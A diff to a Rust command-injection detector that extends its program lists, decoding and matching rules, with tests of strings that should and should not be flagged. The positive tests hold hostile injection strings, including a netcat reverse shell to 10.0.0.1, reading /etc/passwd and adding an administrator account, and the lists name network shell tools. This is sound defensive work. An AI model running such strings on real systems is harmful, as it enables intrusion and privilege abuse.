@@ -22,13 +22,13 @@
 
 /// Programs that commonly follow an injection.
 const PROGRAMS: &[&str] = &[
-    "id", "whoami", "uname", "cat", "ls", "dir", "pwd", "echo", "ping", "sleep", "wget", "curl", "nc", "ncat", "netcat", "bash", "sh", "zsh", "ksh", "dash", "csh", "tcsh", "python", "python2", "python3", "perl", "ruby", "php", "node", "lua", "nslookup", "dig", "host", "ifconfig", "ipconfig", "netstat", "ps", "kill", "killall", "chmod", "chown", "rm", "mv", "cp", "touch", "mkdir", "head", "tail", "more", "less", "grep", "find", "awk", "sed", "xargs", "env", "printenv", "export", "set", "type", "systeminfo", "tasklist", "net", "powershell", "pwsh", "cmd", "certutil", "bitsadmin", "whoami.exe", "cmd.exe", "powershell.exe", "telnet", "ssh", "scp", "ftp", "tftp", "base64", "xxd", "od", "hexdump", "uptime", "hostname", "w", "who", "last", "passwd", "sudo", "su", "crontab", "nohup", "timeout", "eval", "exec", "sort", "uniq", "wc", "tac", "nl", "rev", "vi", "vim", "nano", "dd", "tar", "zip", "unzip", "gzip", "openssl", "socat", "mkfifo", "mknod", "useradd", "usermod", "shutdown", "reboot", "halt", "sysctl", "dmesg", "lsof", "arp", "route", "traceroute", "tracert", "nmap", "java", "gcc", "cc", "make", "mail", "sendmail", "file", "stat", "readlink", "realpath", "basename", "dirname", "true", "false", "test", "expr", "seq", "yes", "time", "date", "cal", "df", "du", "free", "top", "mount", "lsblk", "fdisk", "reg", "wmic", "regsvr32", "rundll32", "mshta", "cscript", "wscript", "start", "call", "copy", "del", "ver", "vol", "query", "schtasks", "sc",
+    "id", "whoami", "uname", "cat", "ls", "dir", "pwd", "echo", "ping", "sleep", "wget", "curl", "nc", "ncat", "netcat", "bash", "sh", "zsh", "ksh", "dash", "csh", "tcsh", "python", "python2", "python3", "perl", "ruby", "php", "node", "lua", "nslookup", "dig", "host", "ifconfig", "ipconfig", "netstat", "ps", "kill", "killall", "chmod", "chown", "rm", "mv", "cp", "touch", "mkdir", "head", "tail", "more", "less", "grep", "find", "awk", "sed", "xargs", "env", "printenv", "export", "set", "type", "systeminfo", "tasklist", "net", "powershell", "pwsh", "cmd", "certutil", "bitsadmin", "whoami.exe", "cmd.exe", "powershell.exe", "telnet", "ssh", "scp", "ftp", "tftp", "base64", "xxd", "od", "hexdump", "uptime", "hostname", "w", "who", "last", "passwd", "sudo", "su", "crontab", "nohup", "timeout", "eval", "exec", "sort", "uniq", "wc", "tac", "nl", "rev", "vi", "vim", "nano", "dd", "tar", "zip", "unzip", "gzip", "openssl", "socat", "mkfifo", "mknod", "useradd", "usermod", "shutdown", "reboot", "halt", "sysctl", "dmesg", "lsof", "arp", "route", "traceroute", "tracert", "nmap", "java", "gcc", "cc", "make", "mail", "sendmail", "file", "stat", "readlink", "realpath", "basename", "dirname", "true", "false", "test", "expr", "seq", "yes", "time", "date", "cal", "df", "du", "free", "top", "mount", "lsblk", "fdisk", "reg", "wmic", "regsvr32", "rundll32", "mshta", "cscript", "wscript", "start", "call", "copy", "del", "ver", "vol", "query", "schtasks", "sc", "which", "sysinfo", "whereis", "locate", "getent", "net.exe", "nbtstat", "nltest", "dsquery", "icacls", "attrib", "findstr", "more.com", "dig", "id.exe",
 ];
 
 /// Programs no English sentence contains as a word: their presence after a separator is
 /// enough.
 const UNAMBIGUOUS: &[&str] = &[
-    "whoami", "uname", "ifconfig", "ipconfig", "netstat", "wget", "curl", "nc", "ncat", "netcat", "bash", "sh", "zsh", "ksh", "nslookup", "systeminfo", "tasklist", "powershell", "pwsh", "certutil", "bitsadmin", "whoami.exe", "cmd.exe", "powershell.exe", "xxd", "hexdump", "printenv", "crontab", "nohup", "socat", "mkfifo", "useradd", "usermod", "sysctl", "dmesg", "lsof", "nmap", "sendmail", "readlink", "lsblk", "fdisk", "wmic", "regsvr32", "rundll32", "mshta", "cscript", "wscript", "schtasks", "python", "python2", "python3", "perl", "php", "chmod", "chown", "killall", "tftp", "openssl", "traceroute", "tracert", "ls", "pwd", "id", "dir", "cmd", "ping", "uptime", "hostname", "passwd", "sudo", "env", "xargs", "awk", "sed", "grep",
+    "whoami", "uname", "ifconfig", "ipconfig", "netstat", "wget", "curl", "nc", "ncat", "netcat", "bash", "sh", "zsh", "ksh", "nslookup", "systeminfo", "tasklist", "powershell", "pwsh", "certutil", "bitsadmin", "whoami.exe", "cmd.exe", "powershell.exe", "xxd", "hexdump", "printenv", "crontab", "nohup", "socat", "mkfifo", "useradd", "usermod", "sysctl", "dmesg", "lsof", "nmap", "sendmail", "readlink", "lsblk", "fdisk", "wmic", "regsvr32", "rundll32", "mshta", "cscript", "wscript", "schtasks", "python", "python2", "python3", "perl", "php", "chmod", "chown", "killall", "tftp", "openssl", "traceroute", "tracert", "ls", "pwd", "id", "dir", "cmd", "ping", "uptime", "hostname", "passwd", "sudo", "env", "xargs", "awk", "sed", "grep", "which", "sysinfo", "whereis", "getent", "nbtstat", "nltest", "dsquery", "icacls", "findstr",
 ];
 
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -57,6 +57,17 @@ fn normalize(v: &[u8]) -> Vec<u8> {
                     continue;
                 }
                 out.push(b);
+            }
+            // `\n`, `\r` and `\t` written out: line breaks and blanks once decoded.
+            b'\\' if matches!(v.get(i + 1), Some(b'n' | b'r')) => {
+                out.push(b'\n');
+                i += 2;
+                continue;
+            }
+            b'\\' if v.get(i + 1) == Some(&b't') => {
+                out.push(b' ');
+                i += 2;
+                continue;
             }
             b'\\' => match v.get(i + 1) {
                 Some(c) if c.is_ascii_alphanumeric() || *c == b'/' => {
@@ -177,6 +188,11 @@ fn shell_arg(word: &str) -> bool {
     }
 }
 
+/// `net view`, `net user` ...: the Windows `net` command's subcommands.
+fn net_subcommand(name: &str, arg: &str) -> bool {
+    name == "net" && matches!(arg, "view" | "user" | "users" | "localgroup" | "group" | "share" | "use" | "session" | "accounts")
+}
+
 /// The injection found, as `program` (or the construct's name).
 pub fn detect_cmdi(value: &[u8]) -> Option<String> {
     if value.len() < 2 {
@@ -209,6 +225,10 @@ pub fn detect_cmdi(value: &[u8]) -> Option<String> {
             Some(Tok::Word(a)) => shell_arg(a),
         };
         let in_subst = matches!(before, Some(Tok::Subst)) && matches!(toks.get(i + 1..).and_then(|r| r.iter().find(|t| !matches!(t, Tok::Word(_)))), Some(Tok::Close | Tok::Subst));
+        let net = matches!(next, Some(Tok::Word(a)) if net_subcommand(&name, &a.to_ascii_lowercase()));
+        if after_sep && net {
+            return Some(name);
+        }
         if after_sep {
             // `;` and `|` before a program and nothing English after it.
             if in_subst || arg_like || (unambiguous && !matches!(next, Some(Tok::Word(a)) if a.chars().all(|c| c.is_alphabetic()) && a.len() > 3)) {
@@ -220,6 +240,19 @@ pub fn detect_cmdi(value: &[u8]) -> Option<String> {
         } else if absolute && (next.is_none() || arg_like) {
             return Some(name);
         } else if unambiguous && matches!(next, Some(Tok::Word(a)) if shell_arg(a)) && name.len() > 2 {
+            return Some(name);
+        } else if let Some(Tok::Word(a)) = next {
+            // At the start: a program with an argument no text has (`sleep 10`, `which nc`,
+            // `type C:\\boot.ini`, `net view`).
+            let a_l = a.to_ascii_lowercase();
+            let strong = a_l.starts_with('/') && a_l.len() > 1 || a_l.starts_with('%') && a_l.ends_with('%') || (a_l.get(1..2) == Some(":") && a_l.starts_with(|c: char| c.is_ascii_alphabetic()) && a_l.len() > 2) || (a_l.starts_with('-') && a_l.len() > 1 && a_l.len() <= 4 && a_l.bytes().skip(1).all(|c| c.is_ascii_alphabetic()) && toks.len() <= 4);
+            let number = a_l.bytes().all(|c| c.is_ascii_digit()) && matches!(name.as_str(), "sleep" | "ping" | "timeout") && toks.len() == 2;
+            let prog_arg = matches!(name.as_str(), "which" | "whereis" | "type" | "locate") && program(a).is_some() && toks.len() == 2;
+            let net = net_subcommand(&name, &a_l);
+            if strong || number || prog_arg || net || (name == "type" && a_l.contains('%')) {
+                return Some(name);
+            }
+        } else if toks.len() == 1 && matches!(name.as_str(), "whoami" | "ifconfig" | "ipconfig" | "systeminfo" | "tasklist" | "netstat" | "uname" | "printenv" | "sysinfo") {
             return Some(name);
         }
     }
@@ -236,7 +269,7 @@ mod tests {
 
     #[test]
     fn separators_before_programs() {
-        for s in [";id", "|id|", "a;id;", "127.0.0.1; cat /etc/passwd", "x && whoami", "foo || uname -a", "1\nid", "x|nc -e /bin/sh 10.0.0.1 4444", "& ping -c 10 127.0.0.1 &", ";sleep 5;", "a; ls -la"] {
+        for s in [";id", "|id|", "a;id;", "127.0.0.1; cat /etc/passwd", "x && whoami", "foo || uname -a", "1\nid", "x|nc -e /bin/sh 10.0.0.1 4444", "& ping -c 10 127.0.0.1 &", ";sleep 5;", "a; ls -la", ";id\\n", "| net view", "&& net localgroup Administrators hacker /ADD", "sleep 10", "which nc", "type C:\\boot.ini", "whoami", "ls -la"] {
             assert!(hit(s), "{s}");
         }
     }
@@ -257,7 +290,7 @@ mod tests {
 
     #[test]
     fn english_and_code_are_not_commands() {
-        for s in ["Tom & Jerry", "dogs; cat lovers unite", "rock & roll", "I love my cat", "salt & pepper; more later", "id", "ls", "echo", "a | b", "Q&A: time to shine", "Fish & Chips", "cats, dogs; sleep well tonight", "price: $5", "function(){ return a|b; }", "see ${name}", "Ben & Jerry's", "R&D team", "the id field", "/home/user/docs"] {
+        for s in ["Tom & Jerry", "dogs; cat lovers unite", "rock & roll", "I love my cat", "salt & pepper; more later", "id", "ls", "echo", "a | b", "Q&A: time to shine", "Fish & Chips", "cats, dogs; sleep well tonight", "price: $5", "function(){ return a|b; }", "see ${name}", "Ben & Jerry's", "R&D team", "the id field", "/home/user/docs", "top -10 songs", "net 30 days", "type of hat", "sleep well", "which one?", "net worth", "date 2024-05-01"] {
             assert!(!hit(s), "{s}");
         }
     }
